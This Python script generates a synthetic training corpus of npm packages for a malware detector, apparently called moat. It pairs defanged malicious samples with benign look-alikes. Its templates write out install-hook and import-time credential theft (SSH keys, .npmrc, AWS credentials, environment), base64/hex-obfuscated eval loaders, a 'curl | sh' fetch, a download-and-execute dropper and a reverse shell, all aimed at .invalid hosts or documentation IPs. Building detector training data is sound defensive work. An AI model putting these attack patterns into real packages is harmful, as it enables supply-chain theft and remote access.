#!/usr/bin/env python3
"""synth_npm.py: hand-written, defanged npm packages for training.

Almost no real npm malware is available here (the GuardDog snippets are
single files), so the model sees npm attack shapes mostly through PyPI
malware rewritten into npm form. This writes a small corpus of npm
packages composed from hand-written building blocks of the attack shapes
npm advisories describe - install-hook and import-time credential theft,
encoded payloads run through eval / Function / vm, download-and-execute,
connect-back shells - and, as many again, benign packages written in the
same style that use the same APIs for ordinary work (decoding base64 data,
running git from a CLI, fetching JSON, reading their own config), so the
model cannot learn "synthetic" instead of "malicious".

Every package is defanged and harmless even if something ran it: hosts are
reserved .invalid names or documentation addresses (192.0.2.0/24,
198.51.100.0/24), "home" folders are inside the package, downloads go to
nothing (the hosts never resolve) and no command runs unless such a host
answered. moat only ever reads these statically (moat dataset).

The test fixtures under testdata/fixtures are NOT generated here and none of
this code is copied from them; they stay an independent check.

  synth_npm.py --out DIR [--n 160] [--seed 7]
writes DIR/malicious/*.tgz, DIR/benign/*.tgz and DIR/{malicious,benign}.tsv.
"""
import argparse
import base64
import csv
import io
import json
import os
import random
import tarfile

WORDS = """amber arrow atlas beacon birch blaze bloom breeze brook canyon cedar chalk
cinder clover comet coral crane crest dawn delta drift ember fable fern flint
forge frost gale garnet glade glow granite grove harbor hazel heron hollow
indigo iris ivory jade juniper kestrel lagoon lark lumen maple marble meadow
mesa mist moss nebula nimbus oak onyx opal orbit orchid otter pebble pine
plume prism quartz quill raven reef ridge river robin sable sage shale spruce
summit swift thistle thorn tide timber topaz tundra vale vapor willow wren
yarrow zephyr""".split()
KINDS = "utils kit core lib helper tools js parse format color config loader client sdk cli".split()
HOSTS = ["collect.invalid", "telemetry-cdn.invalid", "api.stats.invalid", "hooks.example.invalid",
         "update-check.invalid", "cdn-assets.invalid", "npm-mirror.invalid", "pkg-metrics.invalid"]
DOC_IPS = ["192.0.2.10", "192.0.2.77", "198.51.100.23", "198.51.100.200"]


def name(rng):
    return f"{rng.choice(WORDS)}-{rng.choice(WORDS)}-{rng.choice(KINDS)}"


def filler(rng):
    """Ordinary utility code that real packages carry around the payload."""
    parts = [
        "function camelCase(s) {\n  return String(s).replace(/[-_\\s]+(.)?/g, (_, c) => (c ? c.toUpperCase() : ''));\n}\n",
        "function clamp(n, lo, hi) {\n  return Math.min(hi, Math.max(lo, n));\n}\n",
        "function pad(s, n, ch = ' ') {\n  s = String(s);\n  while (s.length < n) s = ch + s;\n  return s;\n}\n",
        "function chunk(arr, size) {\n  const out = [];\n  for (let i = 0; i < arr.length; i += size) out.push(arr.slice(i, i + size));\n  return out;\n}\n",
        "function debounce(fn, ms) {\n  let t;\n  return function (...args) {\n    clearTimeout(t);\n    t = setTimeout(() => fn.apply(this, args), ms);\n  };\n}\n",
        "function isPlainObject(v) {\n  return Object.prototype.toString.call(v) === '[object Object]';\n}\n",
        "function merge(a, b) {\n  const out = Object.assign({}, a);\n  for (const k of Object.keys(b || {})) out[k] = isObj(b[k]) && isObj(a[k]) ? merge(a[k], b[k]) : b[k];\n  return out;\n}\nfunction isObj(v) { return v && typeof v === 'object' && !Array.isArray(v); }\n",
        "class Emitter {\n  constructor() { this.handlers = {}; }\n  on(e, fn) { (this.handlers[e] = this.handlers[e] || []).push(fn); return this; }\n  emit(e, ...a) { (this.handlers[e] || []).forEach((fn) => fn(...a)); }\n}\n",
    ]
    rng.shuffle(parts)
    return "\n".join(parts[: rng.randint(1, 4)])


def exports_line(rng):
    return rng.choice([
        "module.exports = { camelCase: typeof camelCase === 'function' ? camelCase : undefined };\n",
        "module.exports = function main(opts) { return Object.assign({}, opts); };\n",
        "exports.version = '1.0.0';\n",
    ])


def encode(rng, payload):
    """An expression that evaluates to payload, and which decoder it uses."""
    how = rng.choice(["b64", "b64", "hex", "charcodes", "reverse-b64", "split-b64"])
    if how == "b64":
        e = base64.b64encode(payload.encode()).decode()
        return f"Buffer.from('{e}', 'base64').toString()", how
    if how == "hex":
        e = payload.encode().hex()
        return f"Buffer.from('{e}', 'hex').toString('utf8')", how
    if how == "charcodes":
        codes = ",".join(str(ord(c)) for c in payload)
        return f"String.fromCharCode({codes})", how
    if how == "reverse-b64":
        e = base64.b64encode(payload.encode()).decode()[::-1]
        return f"Buffer.from('{e}'.split('').reverse().join(''), 'base64').toString()", how
    e = base64.b64encode(payload.encode()).decode()
    cut = [e[i:i + 24] for i in range(0, len(e), 24)]
    return "Buffer.from([" + ", ".join(f"'{c}'" for c in cut) + "].join(''), 'base64').toString()", how


def run_decoded(rng, expr):
    return rng.choice([
        f"eval({expr});\n",
        f"new Function({expr})();\n",
        f"require('vm').runInThisContext({expr});\n",
        f"const _r = {expr};\n(0, eval)(_r);\n",
    ])


# --- malicious building blocks (defanged) ------------------------------------

def steal_env(rng, host):
    var = rng.choice(["data", "info", "payload", "d"])
    send = rng.choice([
        f"const req = require('https').request({{ hostname: '{host}', path: '/c', method: 'POST' }}, () => {{}});\nreq.on('error', () => {{}});\nreq.end(JSON.stringify({var}));\n",
        f"require('http').get('http://{host}/i?d=' + Buffer.from(JSON.stringify({var})).toString('base64'), () => {{}}).on('error', () => {{}});\n",
        f"require('dns').lookup(Buffer.from(JSON.stringify({var})).toString('hex').slice(0, 60) + '.{host}', () => {{}});\n",
        f"fetch('https://{host}/collect', {{ method: 'POST', body: JSON.stringify({var}) }}).catch(() => {{}});\n",
    ])
    home = rng.choice(["path.join(__dirname, 'home')", "path.join(__dirname, '.cache', 'h')"])
    reads = rng.sample([
        "npmrc: tryRead(path.join(home, '.npmrc'))",
        "ssh: tryRead(path.join(home, '.ssh', 'id_rsa'))",
        "aws: tryRead(path.join(home, '.aws', 'credentials'))",
        "git: tryRead(path.join(home, '.gitconfig'))",
        "bash: tryRead(path.join(home, '.bash_history'))",
    ], rng.randint(1, 3))
    extra = rng.sample([
        "env: process.env",
        "host: os.hostname()",
        "user: os.userInfo().username",
        "cwd: process.cwd()",
        "ifaces: os.networkInterfaces()",
        "platform: os.platform()",
    ], rng.randint(1, 4))
    return ("const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
            f"const home = {home}; // defanged: a real stealer uses os.homedir()\n"
            "function tryRead(p) { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return ''; } }\n"
            f"const {var} = {{ {', '.join(reads + extra)} }};\n" + send)


def loader(rng, host):
    inner = rng.choice([
        f"require('https').get('https://{host}/s2', r => {{ let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); }}).on('error', () => {{}})",
        f"console.log('defanged stage one for {host}')",
        f"require('child_process').exec('curl -s https://{host}/x | sh', () => {{}})",
        f"process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; require('https').get('https://{host}/c?k=' + Object.keys(process.env).join(','))",
    ])
    expr, _ = encode(rng, inner)
    var = rng.choice(["_0x1a2b", "_p", "q", "__s", "_0xdead"])
    if rng.random() < 0.5:
        return f"const {var} = {expr};\n" + run_decoded(rng, var)
    return run_decoded(rng, expr)


def dropper(rng, host):
    fname = rng.choice(["update", "svc", "helper", "node-cache"])
    runner = rng.choice([
        "require('child_process').spawn(dest, [], { detached: true, stdio: 'ignore' }).unref();",
        "require('child_process').execFile(dest, () => {});",
        "require('child_process').exec('chmod +x ' + dest + ' && ' + dest, () => {});",
    ])
    return ("const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\n"
            f"const dest = path.join(os.tmpdir(), '{fname}-' + process.pid);\n"
            f"https.get('https://{host}/bin/' + os.platform() + '-' + os.arch(), (res) => {{\n"
            "  if (res.statusCode !== 200) return;\n"
            "  const f = fs.createWriteStream(dest, { mode: 0o755 });\n"
            "  res.pipe(f);\n"
            f"  f.on('finish', () => {{ {runner} }});\n"
            "}).on('error', () => {});\n")


def backconnect(rng, _host):
    ip = rng.choice(DOC_IPS)
    port = rng.choice([4444, 1337, 8443, 9001])
    return ("const net = require('net');\nconst cp = require('child_process');\n"
            f"const s = net.connect({port}, '{ip}', () => {{\n"
            "  const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);\n"
            "  s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s);\n"
            "});\ns.on('error', () => {});\n")


def scoped(rng, code):
    """code in its own scope, so two blocks can declare the same names."""
    inner = "".join("  " + l + "\n" for l in code.rstrip("\n").split("\n"))
    return rng.choice(["(function () {\n" + inner + "})();\n", "(() => {\n" + inner + "})();\n", "{\n" + inner + "}\n"])


def malicious_pkg(rng):
    host = rng.choice(HOSTS)
    blocks = [rng.choice([steal_env, steal_env, loader, loader, dropper, backconnect])]
    if rng.random() < 0.3:
        blocks.append(rng.choice([steal_env, loader, dropper]))
    body = "".join(scoped(rng, b(rng, host)) if len(blocks) > 1 else b(rng, host) for b in blocks)
    if rng.random() < 0.35:  # the whole payload itself encoded
        expr, _ = encode(rng, body)
        body = run_decoded(rng, expr)
    trigger = rng.choice(["postinstall", "preinstall", "install", "import", "import", "import-late"])
    files, scripts = {}, {}
    head = "'use strict';\n// DEFANGED training sample (moat): hosts are .invalid or documentation IPs.\n"
    if trigger in ("postinstall", "preinstall", "install"):
        hook = rng.choice(["setup.js", "scripts/install.js", "lib/post.js", "build.js"])
        files[hook] = head + body
        scripts[trigger] = rng.choice([f"node {hook}", f"node ./{hook} || true", f"node {hook} > /dev/null 2>&1"])
        files["index.js"] = head + filler(rng) + exports_line(rng)
    elif trigger == "import":
        files["index.js"] = head + filler(rng) + body + exports_line(rng)
    else:
        files["lib/util.js"] = head + filler(rng) + body
        files["index.js"] = head + "require('./lib/util');\n" + filler(rng) + exports_line(rng)
    return files, scripts


# --- benign counterparts ---------------------------------------------------------

def benign_pkg(rng):
    host = rng.choice(HOSTS)
    kind = rng.choice(["decode", "cli-git", "fetch-json", "config", "template", "native-build", "worker"])
    head = "'use strict';\n"
    files, scripts = {}, {}
    if kind == "decode":
        blob = base64.b64encode(rng.randbytes(rng.randint(24, 90))).decode()
        body = (f"const ICON = Buffer.from('{blob}', 'base64');\n"
                "function dataUri(buf, type) { return 'data:' + type + ';base64,' + buf.toString('base64'); }\n"
                "module.exports = { icon: () => dataUri(ICON, 'image/png'), decode: (s) => Buffer.from(s, 'base64').toString('utf8') };\n")
    elif kind == "cli-git":
        body = ("const { execFileSync } = require('child_process');\nconst path = require('path');\n"
                "function gitRoot(cwd) {\n  return execFileSync('git', ['rev-parse', '--show-toplevel'], { cwd, encoding: 'utf8' }).trim();\n}\n"
                "function changedFiles(cwd) {\n  return execFileSync('git', ['diff', '--name-only'], { cwd: gitRoot(cwd), encoding: 'utf8' }).split('\\n').filter(Boolean).map((f) => path.join(cwd, f));\n}\n"
                "module.exports = { gitRoot, changedFiles };\n")
        if rng.random() < 0.5:
            files["bin/cli.js"] = "#!/usr/bin/env node\n" + head + "const { changedFiles } = require('..');\nconsole.log(changedFiles(process.cwd()).join('\\n'));\n"
    elif kind == "fetch-json":
        body = ("const https = require('https');\n"
                f"const DEFAULT = 'https://{host}/v1/';\n"
                "function getJSON(url, opts = {}) {\n  return new Promise((resolve, reject) => {\n"
                "    https.get(new URL(url, opts.base || DEFAULT), { headers: { accept: 'application/json', ...opts.headers } }, (res) => {\n"
                "      let b = '';\n      res.on('data', (c) => (b += c));\n      res.on('end', () => { try { resolve(JSON.parse(b)); } catch (e) { reject(e); } });\n"
                "    }).on('error', reject);\n  });\n}\nmodule.exports = { getJSON };\n")
    elif kind == "config":
        body = ("const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\n"
                "function load(name, cwd = process.cwd()) {\n"
                "  const candidates = [path.join(cwd, '.' + name + 'rc'), path.join(cwd, name + '.config.json')];\n"
                "  for (const f of candidates) {\n    try { return JSON.parse(fs.readFileSync(f, 'utf8')); } catch (e) { /* next */ }\n  }\n"
                "  return { cacheDir: path.join(os.tmpdir(), name), debug: process.env.DEBUG === name };\n}\n"
                "module.exports = { load };\n")
    elif kind == "template":
        body = ("function compile(src) {\n  const code = 'return `' + String(src).replace(/`/g, '\\\\`') + '`;';\n"
                "  return new Function('data', 'with (data) { ' + code + ' }');\n}\n"
                "module.exports = { compile, render: (src, data) => compile(src)(data) };\n")
    elif kind == "native-build":
        body = ("let binding;\ntry {\n  binding = require('./build/Release/addon.node');\n} catch (e) {\n  binding = { hash: (s) => require('crypto').createHash('sha256').update(s).digest('hex') };\n}\n"
                "module.exports = binding;\n")
        scripts["install"] = rng.choice(["node-gyp rebuild", "node-gyp-build", "prebuild-install || node-gyp rebuild"])
        files["binding.gyp"] = json.dumps({"targets": [{"target_name": "addon", "sources": ["src/addon.cc"]}]})
        files["src/addon.cc"] = "// native addon source\n#include <node_api.h>\n"
    else:
        body = ("const { Worker } = require('worker_threads');\nconst path = require('path');\n"
                "function run(task) {\n  return new Promise((resolve, reject) => {\n"
                "    const w = new Worker(path.join(__dirname, 'worker.js'), { workerData: task });\n"
                "    w.on('message', resolve);\n    w.on('error', reject);\n  });\n}\nmodule.exports = { run };\n")
        files["worker.js"] = head + "const { parentPort, workerData } = require('worker_threads');\nparentPort.postMessage(JSON.stringify(workerData).length);\n"
    files["index.js"] = head + filler(rng) + body
    if rng.random() < 0.25 and not scripts:
        scripts["prepare"] = rng.choice(["tsc -p .", "npm run build", "husky install"])
    return files, scripts


def tgz(pkgname, version, files, scripts, desc):
    pj = {"name": pkgname, "version": version, "description": desc, "main": "index.js", "license": "MIT"}
    if scripts:
        pj["scripts"] = scripts
    files = dict(files)
    files["package.json"] = json.dumps(pj, indent=2) + "\n"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.USTAR_FORMAT) as tf:
        for p in sorted(files):
            data = files[p].encode()
            ti = tarfile.TarInfo("package/" + p)
            ti.size, ti.mode, ti.mtime = len(data), 0o644, 499162500
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", required=True)
    ap.add_argument("--n", type=int, default=160, help="packages per label")
    ap.add_argument("--seed", type=int, default=7)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    seen = set()
    for label, make in (("malicious", malicious_pkg), ("benign", benign_pkg)):
        d = os.path.join(args.out, label)
        os.makedirs(d, exist_ok=True)
        rows = []
        while len(rows) < args.n:
            n = name(rng)
            if n in seen:
                continue
            seen.add(n)
            v = f"{rng.randint(0, 4)}.{rng.randint(0, 20)}.{rng.randint(0, 9)}"
            files, scripts = make(rng)
            data = tgz(n, v, files, scripts, "DEFANGED moat training sample" if label == "malicious" else "moat training sample")
            rel = f"{label}/{n}-{v}.tgz"
            with open(os.path.join(args.out, rel), "wb") as f:
                f.write(data)
            rows.append(["npm", n, v, rel, "npm-synthetic"])
        with open(os.path.join(args.out, label + ".tsv"), "w", newline="") as f:
            w = csv.writer(f, delimiter="\t", lineterminator="\n")
            w.writerow(["ecosystem", "package", "version", "relative_path", "source"])
            w.writerows(rows)
    print(f"synth_npm: {args.n} malicious and {args.n} benign packages in {args.out}")


if __name__ == "__main__":
    main()
